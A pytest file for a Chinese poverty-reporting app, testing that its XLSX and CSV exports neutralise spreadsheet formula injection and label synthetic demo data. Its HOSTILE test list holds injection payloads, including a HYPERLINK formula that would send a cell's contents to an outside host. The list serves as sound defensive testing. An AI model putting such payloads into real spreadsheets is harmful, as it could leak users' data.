"""Every download writes text as text: no cell of an XLSX becomes a formula or a link, and a CSV cell that
a spreadsheet would run as a formula is prefixed with ' (OWASP CSV injection); numbers stay numbers."""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from fupin.reports import bulletin as reports
from fupin.reports import exports

ROOT = Path(__file__).parent.parent
# Text a spreadsheet would otherwise run: formulas, DDE, a link, and a masked name that starts with '='.
HOSTILE = [
    '=HYPERLINK("http://x/?"&E5,"查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=***",
    "http://example.com/x",
]


def _cells(data: bytes) -> dict[str, list[openpyxl.cell.Cell]]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return {ws.title: [c for row in ws.iter_rows() for c in row if c.value is not None] for ws in wb.worksheets}


def _assert_text(data: bytes, expected: list[str]) -> None:
    """Every hostile value is in the workbook as a string cell holding exactly that text; no formula anywhere."""
    cells = [c for cs in _cells(data).values() for c in cs]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell is written as a formula"
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert not [c for ws in wb.worksheets for c in ws._hyperlinks], "a cell is written as a link"
    by_value = {c.value.replace("_x000D_", "\r") if isinstance(c.value, str) else c.value: c for c in cells}
    # (openpyxl leaves xlsxwriter's escape of a CR, _x000D_, as it is; Excel reads it back as a CR)
    for text in expected:
        assert text in by_value, text
        assert by_value[text].data_type == "s", (text, by_value[text].data_type)


def test_households_xlsx_writes_text_as_text() -> None:
    df = pd.DataFrame({"户主": HOSTILE, "收入": [-1.5, 2, 3, 4, 5, 6, 7, 8]})
    data = exports.households_xlsx(df, title="=标题", synthetic=False)
    _assert_text(data, [*HOSTILE, "=标题"])
    income = [c for c in _cells(data)["工作单"] if c.column == 2 and c.row > 3]
    assert [c.value for c in income][:2] == [-1.5, 2] and income[0].data_type == "n"  # numbers stay numbers


def test_table_xlsx_writes_text_as_text() -> None:
    df = pd.DataFrame({"县（市、区）": HOSTILE, "数值": range(-4, 4)})
    data = exports.table_xlsx(df, sheet_name="2020-06", title="=地图", synthetic=False)
    _assert_text(data, [*HOSTILE, "=地图"])
    assert [c.value for c in _cells(data)["2020-06"] if c.column == 2][1:3] == [-4, -3]


def test_safe_csv_prefixes_formula_text_and_keeps_numbers() -> None:
    df = pd.DataFrame(
        {
            "名称": [*HOSTILE, "王伟", None],
            "数值": [-1, -2.5, 3, 4, 5, 6, 7, 8, -9, 10],
            "是否": [True, False] * 5,
        }
    )
    data = exports.safe_csv(df)
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM: Excel opens Chinese correctly
    assert data.splitlines()[1].startswith(b"\"'=HYPERLINK(") and b'"\'\r=1+1"' in data  # a CR in a cell is quoted
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert back["名称"].tolist()[:7] == ["'" + t for t in HOSTILE[:7]]
    assert back["名称"].tolist()[7:] == [HOSTILE[7], "王伟", ""]  # ordinary text unchanged
    assert back["数值"].tolist() == ["-1.0", "-2.5", "3.0", "4.0", "5.0", "6.0", "7.0", "8.0", "-9.0", "10.0"]
    assert back["是否"].tolist()[:2] == ["True", "False"]


def test_month_workbook_writes_text_as_text(monkeypatch: pytest.MonkeyPatch) -> None:
    summary = pd.DataFrame({**{c: [0] for c in reports.MONTH_COLUMNS}, "county_code": ["341221"]})
    summary[["county_name", "city_name"]] = ["=***", "@市"]
    summary["red_flag_new"] = -1
    records = pd.DataFrame(
        {
            "kind": ["red_new"],
            "county_code": ["341221"],
            "county_name": ["临泉县"],
            "record_id": ["+341221"],
            "detail": [HOSTILE[0]],
        }
    )
    monkeypatch.setattr(reports, "month_check", lambda *a, **k: summary)
    monkeypatch.setattr(reports, "month_records", lambda *a, **k: records)
    data = reports.month_workbook(None, None, "2020-05", synthetic=False)  # type: ignore[arg-type]
    _assert_text(data, ["=***", "@市", "+341221", HOSTILE[0]])


def test_bulletin_workbook_writes_text_as_text() -> None:
    counties = pd.DataFrame(
        {
            "county_code": ["341221"],
            "county_name": ["=***"],
            "city_name": ["@市"],
            "poor_reduction": [-0.1],
            "slow_reasons": ["-进度迟缓"],
        }
    )
    rules = pd.DataFrame(
        {
            "measure": ["poor_reduction"],
            "label": ["+减贫"],
            "rule": ["below"],
            "threshold": [0.1],
            "description": ["=说明"],
        }
    )
    b = reports.Bulletin("2020Q1", "=全省", {"poor_reduction": -0.1}, counties, rules, pd.Series(dtype=float), False)
    _assert_text(
        reports.bulletin_workbook(b), ["=***", "@市", "-进度迟缓", "+减贫", "=说明", "季通报 · 2020年第一季度 · =全省"]
    )


def test_every_workbook_and_csv_is_made_through_fupin_exports() -> None:
    """Workbooks are opened with XLSX_OPTIONS (text as text); pages write no CSV or XLSX themselves."""
    offenders = []
    for path in sorted([*ROOT.glob("app_pages/*.py"), ROOT / "app.py", *ROOT.glob("fupin/**/*.py")]):
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            opens = re.search(r"ExcelWriter\(|xlsxwriter\.Workbook\(", line) and "XLSX_OPTIONS" not in line
            page_writes = path.parent.name == "app_pages" and re.search(r"\.to_(csv|excel)\(", line)
            if opens or page_writes:
                offenders.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert not offenders, offenders


# ---------------------------------------------------------------------------- the 演示数据 label


def _texts(data: bytes) -> dict[str, list[str]]:
    """Each sheet's rows 1–2 (the title rows) and its printed page header."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return {
        ws.title: [str(ws.cell(r, 1).value or "") for r in (1, 2)] + [ws.oddHeader.center.text or ""]
        for ws in wb.worksheets
    }


@pytest.mark.parametrize("synthetic", [True, False])
def test_every_sheet_says_demo_data_only_when_synthetic(synthetic: bool) -> None:
    df = pd.DataFrame({"县（市、区）": ["临泉县"], "数值": [1]})
    books = {
        "households": exports.households_xlsx(df, title="工作单", synthetic=synthetic),
        "table": exports.table_xlsx(df, sheet_name="2020-06", title="地图", synthetic=synthetic),
    }
    for name, data in books.items():
        for sheet, (title, label, header) in _texts(data).items():
            assert title, (name, sheet)
            if synthetic:
                assert label == exports.DEMO_LABEL and "演示数据" in header, (name, sheet)
            else:
                assert "演示数据" not in label + header, (name, sheet)
    csv = exports.safe_csv(df, title="地图", synthetic=synthetic).decode("utf-8-sig").splitlines()
    assert csv[0] == "地图"
    assert (csv[1] == exports.DEMO_LABEL) is synthetic and csv[1 + synthetic].startswith("县（市、区）")
